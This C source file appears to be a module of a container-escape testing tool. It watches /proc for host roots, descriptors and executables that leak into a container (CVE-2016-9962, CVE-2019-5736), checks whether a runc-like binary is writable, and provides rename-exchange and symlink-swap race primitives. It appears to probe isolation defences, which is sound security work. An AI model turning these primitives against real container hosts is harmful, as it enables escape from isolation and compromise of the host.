// Escapes that wait for somebody to come in: a container's root that looks at every process which
// appears in its pid namespace, for anything of the host that it still has (CVE-2016-9962,
// CVE-2019-5736), and folders that are swapped under whoever looks a path up.
#define _GNU_SOURCE
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *marker = "/"; // a file of the host that no container has
static long seen, looked;

static bool leads_out(const char *from, const char *up) {
  char path[1200];
  struct stat s;
  snprintf(path, sizeof path, "%s%s%s", from, up, marker);
  return stat(path, &s) == 0;
}
static void found(const char *name, const char *what) {
  static int times;
  if (times++ < 50) TELL("FOLDER", "%s %s", name, what);
}
#define UP "/../../../../../../../../../.."

/** A folder that is one of the host, or below its root. */
static void look_at_folder(const char *pid, const char *name) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
  struct stat s;
  if (stat(path, &s) < 0) return;
  looked++;
  if (leads_out(path, "") || leads_out(path, UP)) found(name, pid);
}

/** The program, opened for writing in the way that got runc overwritten. */
static void look_at_program(const char *pid) {
  char path[300], target[256] = "";
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  if (readlink(path, target, sizeof target - 1) < 0) return;
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  struct stat inner, outer;
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  // A program of the container's own is no news.
  bool own = stat(target, &inner) == 0 && fstat(fd, &outer) == 0 && inner.st_ino == outer.st_ino &&
             inner.st_dev == outer.st_dev;
  if (!own) {
    int writable = open(path, O_WRONLY | O_CLOEXEC);
    TELL(writable < 0 ? "program" : "WRITABLE PROGRAM", "%s %s", target,
         writable < 0 ? outcome(-1) : "");
    if (writable >= 0) close(writable);
  }
  close(fd);
}

/** Descriptors: only pipes, terminals, the null device and files of the container. */
static void look_at_descriptors(const char *pid) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR *folder = opendir(path);
  for (struct dirent *e; folder && (e = readdir(folder));) {
    if (e->d_name[0] == '.') continue;
    char link[600], target[256] = "";
    snprintf(link, sizeof link, "%s/%s", path, e->d_name);
    if (readlink(link, target, sizeof target - 1) < 0) continue;
    looked++;
    struct stat s;
    if (stat(link, &s) < 0 || !S_ISDIR(s.st_mode)) continue;
    if (leads_out(link, "") || leads_out(link, UP)) found(e->d_name, target);
  }
  if (folder) closedir(folder);
}

static bool stopping;
static void stop(int signal) { (void)signal, stopping = true; }

/** "watch PATH": until SIGTERM, then says how much it has seen. */
static int v_watch(int argc, char **argv) {
  if (argc > 1) marker = argv[1];
  signal(SIGTERM, stop);
  TELL("watching", "yes");
  char self[16];
  snprintf(self, sizeof self, "%d", getpid());
  while (!stopping) {
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc && (e = readdir(proc));) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9' || !strcmp(e->d_name, self)) continue;
      seen++;
      look_at_folder(e->d_name, "root");
      look_at_folder(e->d_name, "cwd");
      look_at_program(e->d_name);
      look_at_descriptors(e->d_name);
    }
    if (proc) closedir(proc);
  }
  TELL("seen", "%ld processes, %ld files", seen, looked);
  return 0;
}

/** "swap A B …": exchanges pairs of names as fast as it can, until SIGTERM. */
static int v_swap(int argc, char **argv) {
  signal(SIGTERM, stop);
  TELL("swapping", "yes");
  while (!stopping) {
    for (int i = 1; i + 1 < argc; i += 2) {
      renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE);
    }
  }
  return 0;
}

/** "swaps COUNT A B": the same, so many times. */
static int v_swaps(int argc, char **argv) {
  if (argc < 4) return 2;
  long done = 0, tries = strtol(argv[1], NULL, 10);
  for (long i = 0; i < tries; i++) {
    done += renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0;
  }
  TELL("swapped", "%ld", done);
  return 0;
}

/** "replace A TARGET": a link stands where a folder was, whatever is mounted in that. */
static int v_replace(int argc, char **argv) {
  if (argc < 3) return 2;
  TELL("rename", "%s", outcome(rename(argv[1], "/attack-moved")));
  TELL("link", "%s", outcome(symlink(argv[2], argv[1])));
  return 0;
}

const struct verb race_verbs[] = {
    {"watch", v_watch}, {"swap", v_swap}, {"swaps", v_swaps}, {"replace", v_replace}, {NULL, NULL},
};
